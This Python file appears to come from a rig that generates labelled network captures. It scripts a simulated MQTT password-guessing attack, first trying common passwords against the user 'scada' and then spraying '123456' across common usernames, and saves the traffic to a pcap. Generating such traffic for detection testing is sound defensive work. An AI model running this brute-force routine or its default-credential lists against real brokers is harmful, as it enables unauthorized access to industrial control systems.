"""A device in the cell tries passwords on the broker: many for one name, then one for many names."""

from __future__ import annotations

import contextlib

from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.telemetry import make_client, make_scenario, run_client

_WORDS = ("scada", "scada1", "123456", "password", "admin", "mqtt", "mosquitto", "qwerty", "Welcome1", "plant", "view")
_NAMES = ("admin", "mqtt", "root", "user", "device", "sensor", "gateway", "historian", "mes", "test", "guest", "iot")


async def attack(stage: Stage) -> None:
    """Try each once, a second apart."""
    await stage.until(30)
    for pairs in ([("scada", word) for word in _WORDS], [(name, "123456") for name in _NAMES]):
        stage.mark()
        for ordinal, (name, word) in enumerate(pairs):
            client = make_client(f"mqttx_{ordinal:04x}")
            client.username_pw_set(name, word)
            with contextlib.suppress(OSError):
                async with run_client(client, patience_s=0.15):
                    pass
            await stage.wait(1)


SCENARIO = make_scenario("mqtt_password_guessing.pcap.gz", 43, 110, {"implant": attack}, strangers=("implant",))
